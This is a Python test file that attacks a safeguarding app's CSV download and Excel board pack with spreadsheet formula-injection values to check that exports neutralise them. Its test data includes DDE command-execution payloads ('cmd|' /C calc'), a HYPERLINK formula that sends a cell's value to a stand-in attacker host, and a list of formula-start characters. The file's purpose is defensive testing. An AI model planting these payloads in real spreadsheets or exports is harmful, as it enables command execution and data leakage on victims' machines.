"""Formula injection through exports, tested by attacking them (issue 13 §5): hostile values,
including line breaks that would start a new row, go through the product's CSV download and the
board pack; every reading of the result, by a CSV parser, by pandas and by splitting the raw
bytes into lines, must find no cell and no line that a spreadsheet would run, and the rows the
frame had. Every value here is made up."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import sys
import unicodedata
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
import streamlit
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safeguarding import board_pack, exports
from safeguarding.ingest import ingest_files
from safeguarding.ui import components

# The oracle, written out here rather than taken from exports: the characters a spreadsheet
# reads as the start of a formula or DDE call, in their ASCII, full-width, small, superscript
# and subscript forms.
FORMULA_CHARACTERS = frozenset("=+-@|%＝＋－＠｜％﹦﹢﹣﹫﹪⁼⁺₌₊")
# What a spreadsheet's import may strip before it looks at a cell: whitespace, quotes,
# controls (tab, CR, LF, NUL, ...), invisible formatting (zero-width space, byte order mark).
LEADERS = [" ", "  ", "\t", "\u00a0", "\u3000", '"', "\u200b", "\ufeff", "\x00", "\x0b"]
BREAKS = ["\r", "\n", "\r\n", "\n\r", "\r\r", "\x0c", "\x85", "\u2028", "\u2029"]
PAYLOADS = [
    'HYPERLINK("http://attacker.example/?x="&A1,"Open")',
    "SUM(1,2)",
    "1+3",
    "cmd|' /C calc'!A0",
    "2+3",
    'DDE("cmd";"/C calc";"A1")',
]
PHYSICAL_LINE_END = re.compile(r"\r\n|\r|\n")
LINE_BOUNDARIES_OF_THE_RULE = re.compile(r"\r\n|[\r\n\v\f\x1c-\x1e\x85\u2028\u2029]")


def runs_as_formula(text: str) -> bool:
    """Would a spreadsheet take this cell (or line) as a formula, as the oracle sees it?"""
    if not text:
        return False
    if unicodedata.category(text[0]) == "Cc":
        return True
    for character in text:
        looked_through = character.isspace() or character == '"'
        if not looked_through and unicodedata.category(character) not in ("Cc", "Cf"):
            return character in FORMULA_CHARACTERS
    return False


def one_line(text: str) -> str:
    """The value as the CSV download promises to write it before neutralising."""
    return LINE_BOUNDARIES_OF_THE_RULE.sub(" ", text)


formula = st.builds(
    lambda leaders, start, payload: "".join(leaders) + start + payload,
    st.lists(st.sampled_from(LEADERS), max_size=3),
    st.sampled_from(sorted(FORMULA_CHARACTERS)),
    st.sampled_from(PAYLOADS),
)
# A value is a few parts, each after a line break, a delimiter, a quote or nothing: e.g.
# "Owner: \r=1+3", "ok\r\n\t=SUM(1,2)", '"a","=1+3', or any text at all.
hostile_text = st.lists(
    st.tuples(
        st.sampled_from(["", ",", '"', " ", *BREAKS]),
        st.one_of(formula, st.text(max_size=8), st.sampled_from(["Owner: ", "ok", "PUP-1"])),
    ),
    min_size=1,
    max_size=4,
).map(lambda parts: "".join(separator + part for separator, part in parts))

ATTACK = settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def physical_lines(data: bytes) -> list[str]:
    """The download split on CR, LF and CR LF, as a line-based tool reads it. Decoded without
    removing the byte order mark, which then leads the first line."""
    lines = PHYSICAL_LINE_END.split(data.decode("utf-8"))
    assert lines[-1] == "", "the file ends with a record end"
    return lines[:-1]


def assert_shown_safely(cell: str, original: str) -> None:
    assert not runs_as_formula(cell), (cell, original)
    assert cell in (one_line(original), "'" + one_line(original)), (cell, original)


# --- the CSV download, attacked ------------------------------------------------------------------


@ATTACK
@given(
    st.lists(st.tuples(hostile_text, hostile_text, st.integers(-5, 5)), min_size=1, max_size=8),
    hostile_text,
)
def test_no_reader_of_a_csv_download_finds_a_formula_or_an_extra_row(table, hostile_header):
    frame = pd.DataFrame(table, columns=[hostile_header, "ref", "days"])
    data = exports.csv_bytes(frame)

    # A CSV parser: one header and one record per frame row, each text cell safe and as given,
    # each number as it was (a number such as -1 is a number to a spreadsheet, not a formula).
    records = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(records) == len(frame) + 1
    assert len(records[0]) == 3
    for cell, value in zip(records[0], [hostile_header, "ref", "days"], strict=True):
        assert_shown_safely(cell, value)
    for record, (text, ref, days) in zip(records[1:], table, strict=True):
        assert len(record) == 3
        assert_shown_safely(record[0], text)
        assert_shown_safely(record[1], ref)
        assert record[2] == str(days)

    # A line-based tool: every physical line is one whole record and starts safely, and a
    # reader that parses each line on its own (recovering after a broken quote) agrees.
    lines = physical_lines(data)
    assert len(lines) == len(frame) + 1
    for line, record in zip(lines, records, strict=True):
        assert not runs_as_formula(line), line
        assert next(csv.reader([line.removeprefix("\ufeff")])) == record

    # pandas, another CSV reader with its own parser (the header read as a row, as it is).
    read = pd.read_csv(
        io.BytesIO(data), header=None, dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )
    assert read.to_numpy().tolist() == records


def test_the_attacker_s_values_of_issue_13():
    frame = pd.DataFrame(
        {
            "owner": [
                "Owner: \r=1+3",  # a bare CR: a new row starting with a formula
                "ok\n=1+3",
                "ok\r\n@SUM(1,2)",
                '=HYPERLINK("http://attacker.example","x")',
                "+SUM(1,2)",
                "\t=1+1",
                " =1+1",
                "＝1+1",
                "|cmd",
                "%0A",
                "a,b",
                'say "hi"',
                "PUP-OAK-1",
            ]
        }
    )
    data = exports.csv_bytes(frame)
    assert data.decode("utf-8-sig").split("\r\n") == [
        "owner",
        "Owner:  =1+3",
        "ok =1+3",
        '"ok @SUM(1,2)"',
        '"\'=HYPERLINK(""http://attacker.example"",""x"")"',  # quoted: it holds a comma
        '"\'+SUM(1,2)"',
        "'\t=1+1",
        "' =1+1",
        "'＝1+1",
        "'|cmd",
        "'%0A",
        '"a,b"',
        '"say ""hi"""',
        "PUP-OAK-1",
        "",
    ]


def test_category_columns_and_headers_are_neutralised_too():
    frame = pd.DataFrame(
        {"=1+3": pd.Categorical(["=SUM(1,2)", "ok\r+1"]), "n": pd.array([1, None], "Int64")}
    )
    records = list(csv.reader(io.StringIO(exports.csv_bytes(frame).decode("utf-8-sig"))))
    assert records == [["'=1+3", "n"], ["'=SUM(1,2)", "1"], ["ok +1", ""]]


def test_the_page_download_button_serves_the_neutralised_file(monkeypatch, tmp_path):
    from safeguarding import access_log
    from safeguarding.identity import User
    from safeguarding.ui import access

    monkeypatch.setattr(access, "current_viewer", lambda: User("lead@trust.example", "trust_lead"))
    monkeypatch.setenv(access_log.PATH_VARIABLE, str(tmp_path / "log.jsonl"))
    buttons = []
    monkeypatch.setattr(streamlit, "download_button", lambda *a, **k: buttons.append(k))
    frame = pd.DataFrame({"owner": ["Owner: \r=1+3", "+SUM(1,2)"], "days": [1, 2]})
    components.download_csv(frame, "list.csv", "Download", key="injection_csv")
    (button,) = buttons
    assert button["data"]() == exports.csv_bytes(frame)
    assert physical_lines(button["data"]()) == [
        "\ufeffowner,days",
        "Owner:  =1+3,1",
        '"\'+SUM(1,2)",2',
    ]


# --- the rule itself -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (" =1+1", "' =1+1"),
        ("\u00a0\u3000=1", "'\u00a0\u3000=1"),
        ('"=1', "'\"=1"),
        ("\u200b=1", "'\u200b=1"),
        ("\t=1", "'\t=1"),
        ("\tplain", "'\tplain"),  # a leading control is neutralised whatever follows
        ("\x00x", "'\x00x"),
        ("＝1", "'＝1"),
        ("﹢1", "'﹢1"),
        ("|x", "'|x"),
        ("%x", "'%x"),
        ("-5", "'-5"),
        ("Owner: \r=1+3", "Owner: \r'=1+3"),  # kept as one cell, each line neutralised
        ("a\r\n b\n-c\u2028@d", "a\r\n b\n'-c\u2028'@d"),
        ("\r=1", "'\r'=1"),
        ("plain", "plain"),
        ("it's = 3", "it's = 3"),
        ("'=1", "'=1"),  # already text to a spreadsheet
        ("", ""),
        ("−1", "−1"),  # U+2212 MINUS SIGN: text to every spreadsheet
    ],
)
def test_the_neutralisation_rule(value, expected):
    assert exports.neutralise(value) == expected


@ATTACK
@given(hostile_text)
def test_every_line_of_a_neutralised_cell_is_safe_and_keeps_its_content(text):
    safe = exports.neutralise(text)
    safe_lines = LINE_BOUNDARIES_OF_THE_RULE.split(safe)
    lines = LINE_BOUNDARIES_OF_THE_RULE.split(text)
    assert len(safe_lines) == len(lines)
    for safe_line, line in zip(safe_lines, lines, strict=True):
        assert not runs_as_formula(safe_line), (safe_line, text)
        assert safe_line in (line, "'" + line)
    assert exports.neutralise(safe) == safe  # neutralising twice adds nothing


def test_no_letter_or_digit_starts_a_formula_in_any_form():
    """exports.is_hostile_line passes a line that starts with a letter or digit at once."""
    for code_point in range(sys.maxunicode + 1):
        character = chr(code_point)
        if character.isalnum():
            assert unicodedata.normalize("NFKC", character)[:1] not in FORMULA_CHARACTERS


# --- the board pack ------------------------------------------------------------------------------

AS_OF = dt.date(2026, 11, 28)
PLANTED_TITLES = {
    "child_protection_safeguarding": "Owner: \r=1+3",
    "online_safety": "ok\r\n+SUM(1,2)",
    "acceptable_use": "\t=cmd|' /C calc'!A0",
}
PLANTED_OWNER = "Head\n@SUM(1,2)"


@pytest.fixture(scope="module")
def planted_db(tmp_path_factory) -> Path:
    """One made-up academy whose overdue policies have titles and an owner with line breaks
    before formulas, so they reach the trust lead's list of policy reviews due."""
    folder = tmp_path_factory.mktemp("export-injection")
    academies = folder / "academies.csv"
    academies.write_text(
        "academy_code,academy_name,phase,pupils_on_roll\r\nQZA,Alpha Primary,primary,210\r\n"
    )
    policies = folder / "policies.csv"
    with policies.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(
            ["academy_code", "policy_title", "policy_type", "owner", "last_reviewed_on",
             "next_review_on"]
        )  # fmt: skip
        for policy_type, title in PLANTED_TITLES.items():
            writer.writerow(["QZA", title, policy_type, PLANTED_OWNER, "2025-01-01", "2026-01-01"])
    db = folder / "trust.duckdb"
    for result in ingest_files([academies, policies], db=db, today=AS_OF, who="test-runner"):
        assert result.status == "loaded" and not result.quarantined, result
    return db


def test_the_board_pack_neutralises_every_line_of_a_text_with_line_breaks(planted_db):
    with duckdb.connect(str(planted_db), read_only=True) as con:
        stored = {row[0] for row in con.execute("select policy_title from policies").fetchall()}
        assert stored == set(PLANTED_TITLES.values())  # the ingest keeps them as given
        content = board_pack.build_board_pack(con, AS_OF, "trust_lead")
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    for line in PHYSICAL_LINE_END.split(cell.value):
                        assert not runs_as_formula(line), (sheet.title, cell.coordinate, line)
    # Shown, as text, line breaks and all (openpyxl reads a saved CR back as LF or CR).
    flattened = {PHYSICAL_LINE_END.sub("/", t) for t in texts}
    assert "Owner: /'=1+3" in flattened
    assert "ok/'+SUM(1,2)" in flattened
    assert "'\t=cmd|' /C calc'!A0" in flattened
    assert "Head/'@SUM(1,2)" in flattened


def test_a_board_pack_cell_is_written_as_neutralised_text():
    book = openpyxl.Workbook()
    cell = board_pack._put(book.active, 1, 1, "Owner: \r=1+3\x0b\n+1")
    assert cell.data_type == "s"
    assert cell.value == "Owner: \r'=1+3\n'+1"  # openpyxl's illegal \x0b removed first
